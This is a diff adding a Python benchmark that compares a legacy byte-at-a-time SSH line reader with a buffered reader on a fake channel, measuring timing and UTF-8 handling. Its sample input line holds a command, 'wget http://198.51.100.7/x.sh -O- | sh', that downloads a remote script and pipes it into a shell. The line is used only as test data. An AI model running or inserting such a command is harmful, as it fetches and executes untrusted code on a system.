@@ -0,0 +1,120 @@
+"""
+Micro-benchmark: per-keystroke reader vs buffered LineEditor.
+
+Feeds a ~64 KB pasted shell script (with multi-byte UTF-8) through both
+readers over a fake in-memory channel and reports wall time, recv() calls
+and send() calls (each send is one encrypted SSH packet on a real channel).
+
+    python bench_reader.py
+"""
+import time
+
+from line_input import ChannelLineReader
+
+SCRIPT_LINE = "echo 'héllo wörld ✓' && cd /tmp && wget http://198.51.100.7/x.sh -O- | sh"
+
+
+class FakeChannel:
+    """Just enough of paramiko.Channel: recv() drains a byte buffer."""
+
+    def __init__(self, data: bytes, chunk: int = 4096):
+        self.data = data
+        self.pos = 0
+        self.chunk = chunk  # what the SSH layer hands us per packet
+        self.recv_calls = 0
+        self.send_calls = 0
+        self.sent_bytes = 0
+
+    def recv(self, n: int) -> bytes:
+        self.recv_calls += 1
+        n = min(n, self.chunk)
+        out = self.data[self.pos:self.pos + n]
+        self.pos += len(out)
+        return out
+
+    def send(self, s) -> int:
+        self.send_calls += 1
+        self.sent_bytes += len(s.encode("utf-8") if isinstance(s, str) else s)
+        return len(s)
+
+
+def legacy_read_line(chan):
+    """The original recv(1)/send(ch) reader, kept here for comparison."""
+    buf = ""
+    while True:
+        data = chan.recv(1)
+        if not data:
+            return None
+        ch = data.decode("utf-8", errors="ignore")
+
+        if ch in ("\r", "\n"):
+            try:
+                chan.send("\r\n")
+            except Exception:
+                pass
+            return buf
+
+        if ch in ("\x7f", "\x08"):
+            if buf:
+                buf = buf[:-1]
+                try:
+                    chan.send("\b \b")
+                except Exception:
+                    pass
+            continue
+
+        if not ch:
+            # partial UTF-8 byte: the original crashed with TypeError in ord()
+            continue
+
+        if ord(ch) < 32 and ch not in ("\t",):
+            continue
+
+        try:
+            chan.send(ch)
+        except Exception:
+            return None
+
+        buf += ch
+
+
+def make_payload(size: int = 64 * 1024) -> bytes:
+    out = bytearray()
+    while len(out) < size:
+        out += (SCRIPT_LINE + "\r").encode("utf-8")
+    return bytes(out)
+
+
+def run(name, chan, read_line):
+    lines = []
+    t0 = time.perf_counter()
+    while True:
+        line = read_line()
+        if line is None:
+            break
+        lines.append(line)
+    dt = time.perf_counter() - t0
+    print(f"{name:<8} {dt * 1000:8.1f} ms  lines={len(lines):5d}  recv={chan.recv_calls:6d}  "
+          f"send={chan.send_calls:6d}  echoed={chan.sent_bytes} B")
+    return lines
+
+
+def main():
+    payload = make_payload()
+    n_lines = payload.count(b"\r")
+    print(f"payload: {len(payload)} bytes, {n_lines} lines")
+
+    old_chan = FakeChannel(payload)
+    old_lines = run("legacy", old_chan, lambda: legacy_read_line(old_chan))
+
+    new_chan = FakeChannel(payload)
+    reader = ChannelLineReader(new_chan)
+    new_lines = run("buffered", new_chan, reader.read_line)
+
+    # the legacy reader drops every multi-byte char (decodes one byte at a time)
+    print(f"utf-8 intact: legacy={all(l == SCRIPT_LINE for l in old_lines)} "
+          f"buffered={all(l == SCRIPT_LINE for l in new_lines)}")
+
+
+if __name__ == "__main__":
+    main()